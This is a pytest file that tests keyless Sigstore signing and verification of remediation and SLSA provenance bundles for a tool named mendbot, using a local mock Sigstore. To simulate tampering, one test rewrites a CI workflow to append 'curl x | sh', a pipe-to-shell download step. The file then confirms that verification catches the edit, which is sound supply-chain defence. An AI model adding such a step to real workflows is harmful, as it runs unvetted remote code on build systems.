"""Keyless signing end to end: ambient GitHub token → Fulcio → Rekor → bundle → verify.

Runs the real sigstore-python signing (``SigningContext`` → ``sign_dsse``) and verification
(``Verifier.verify_dsse``) code against the loopback Sigstore of ``tests/minisigstore.py``,
first through the library, then through the ``mendbot`` command line in a subprocess.
"""

from __future__ import annotations

import json
import os
import subprocess
import sys
import time
from pathlib import Path

from sigstore.models import Bundle, ClientTrustConfig
from sigstore.verify import Verifier
from sigstore.verify import policy as sp

from bot.provenance.layout import ATTESTATION, SLSA, STATEMENT
from bot.provenance.signing.signers import SigstoreSigner
from bot.provenance.signing.slsa import SLSA_PREDICATE_TYPE
from bot.provenance.verification.trust import SigstoreTrust
from bot.provenance.verification.verifier import verify_bundle
from minisigstore import MiniSigstore, github_claims, identity_of


def _actions_env(mini: MiniSigstore, base: str) -> dict[str, str]:
    return {
        **mini.actions_environment(),
        "GITHUB_SERVER_URL": "https://github.com",
        "GITHUB_REPOSITORY": "acme/infra",
        "GITHUB_REPOSITORY_ID": "1001",
        "GITHUB_REPOSITORY_OWNER_ID": "2002",
        "GITHUB_REF": "refs/heads/main",
        "GITHUB_SHA": base,
        "GITHUB_RUN_ID": "42",
        "GITHUB_RUN_ATTEMPT": "1",
        "GITHUB_EVENT_NAME": "schedule",
        "GITHUB_WORKFLOW_REF": "acme/infra/.github/workflows/mendbot.yml@refs/heads/main",
    }


def test_library_signs_with_the_ambient_identity_and_verifies(bench, mini_sigstore, monkeypatch):
    base = bench.repo.head()
    mini_sigstore.claims = github_claims(sha=base)
    env = _actions_env(mini_sigstore, base)
    for name, value in env.items():
        monkeypatch.setenv(name, value)
    config = ClientTrustConfig.from_json(mini_sigstore.client_trust_config())
    started = time.perf_counter()
    bundles = bench.bundle(SigstoreSigner(config), env=env)
    signing = time.perf_counter() - started
    # One token, one certificate for the run; one Rekor entry per signed statement
    # (remediation + SLSA provenance, for each of the two remediations).
    assert mini_sigstore.requests.count("GET /token") == 1
    assert mini_sigstore.requests.count("POST /api/v2/signingCert") == 1
    assert mini_sigstore.requests.count("POST /api/v1/log/entries") == 4
    folder = next(p for rid, p in bundles.items() if rid.startswith("gha-persist-credentials/ci"))
    statement = json.loads((folder / STATEMENT).read_bytes())
    predicate = statement["predicate"]
    assert predicate["invocation"] == {
        "id": "https://github.com/acme/infra/actions/runs/42/attempts/1",
        "eventName": "schedule",
        "runId": "42",
        "runAttempt": "1",
    }
    assert predicate["repository"] == {
        "uri": "https://github.com/acme/infra",
        "id": "1001",
        "ownerId": "2002",
    }
    assert predicate["generator"]["id"] == identity_of(mini_sigstore.claims)
    head = bench.apply(folder)
    trust = SigstoreTrust(
        identity=identity_of(mini_sigstore.claims),
        repository_id="1001",
        trusted_root=config.trusted_root,
    )
    started = time.perf_counter()
    result = verify_bundle(folder, repo=bench.repo.path, head=head, trust=trust)
    verifying = time.perf_counter() - started
    assert result.ok, [f"{c.id}: {c.message}" for c in result.failures]
    assert result.signer is not None and result.signer.identity == trust.identity
    assert signing < 10 and verifying < 5
    # The SLSA provenance statement: standard predicate, same subjects, verifiable by any
    # sigstore client with the same identity policy.
    slsa_bundle = Bundle.from_json((folder / SLSA).read_bytes())
    policy = sp.AllOf(
        [
            sp.Identity(identity=trust.identity, issuer=trust.issuer),
            sp.OIDCSourceRepositoryDigest(base),
        ]
    )
    kind, payload = Verifier(trusted_root=config.trusted_root).verify_dsse(slsa_bundle, policy)
    slsa = json.loads(payload)
    assert kind == "application/vnd.in-toto+json"
    assert slsa["predicateType"] == SLSA_PREDICATE_TYPE
    assert slsa["subject"] == statement["subject"]
    assert slsa["predicate"]["runDetails"]["builder"]["id"] == trust.identity
    assert slsa["predicate"]["buildDefinition"]["resolvedDependencies"] == [
        {"uri": "git+https://github.com/acme/infra@refs/heads/main", "digest": {"gitCommit": base}}
    ]


def test_signing_without_an_ambient_identity_explains_what_to_do(bench) -> None:
    from bot.provenance.errors import SigningError

    try:
        bench.bundle(SigstoreSigner(object(), token_source=lambda: None))
    except SigningError as exc:
        assert "no ambient OIDC identity" in str(exc)
        assert "id-token: write" in exc.diagnostics()
    else:
        raise AssertionError("signing without an identity must fail")


def _mendbot(*args: str, env: dict[str, str], cwd: Path) -> subprocess.CompletedProcess[str]:
    return subprocess.run(
        [sys.executable, "-m", "bot", *args],
        capture_output=True,
        text=True,
        env=env,
        cwd=cwd,
        check=False,
    )


def test_cli_signs_keyless_and_verifies_then_rejects_a_hand_edit(
    bench, mini_sigstore, tmp_path: Path
) -> None:
    repo = bench.repo
    base = repo.head()
    mini_sigstore.claims = github_claims(sha=base)
    config_file = mini_sigstore.write_client_trust_config(tmp_path / "trust.json")
    env = {
        **os.environ,
        **_actions_env(mini_sigstore, base),
        "MENDBOT_SIGSTORE_TRUST_CONFIG": str(config_file),
    }
    out = tmp_path / "bundles"
    analysed = _mendbot(
        "analyze",
        str(repo.path),
        "--offline",
        "--rule",
        "gha-persist-credentials",
        "--format",
        "json",
        "--bundle-out",
        str(out),
        env=env,
        cwd=tmp_path,
    )
    assert analysed.returncode == 1, analysed.stderr  # findings remain: they are proposed
    assert "[signed (sigstore)]" in analysed.stderr
    assert repo.git("status", "--porcelain") == ""  # the checkout was not touched
    folder = next(out.glob("gha-persist-credentials--ci-*"))
    assert (folder / ATTESTATION).exists() and (folder / SLSA).exists()
    head = bench.apply(folder)
    verify_env = {k: v for k, v in env.items() if not k.startswith("ACTIONS_")}
    verify_env.pop("GITHUB_ACTIONS")
    arguments = [
        "verify",
        str(folder),
        "--repo",
        str(repo.path),
        "--head",
        head,
        "--identity",
        identity_of(mini_sigstore.claims),
        "--issuer",
        "https://token.actions.githubusercontent.com",
        "--repository-id",
        "1001",
    ]
    verified = _mendbot(*arguments, env=verify_env, cwd=tmp_path)
    assert verified.returncode == 0, verified.stdout + verified.stderr
    assert "verified: gha-persist-credentials/ci-" in verified.stdout
    assert "ok    binding.base-commit" in verified.stdout
    workflow = repo.path / ".github/workflows/ci.yml"
    workflow.write_text(workflow.read_text().replace("make test", "make test && curl x | sh"))
    edited = repo.commit("hand edit")
    rejected = _mendbot(*arguments[:5], edited, *arguments[6:], env=verify_env, cwd=tmp_path)
    assert rejected.returncode == 1
    assert "FAIL  change-set" in rejected.stdout
    assert ".github/workflows/ci.yml: post-image content differs" in rejected.stdout
    assert "what to do:" in rejected.stdout
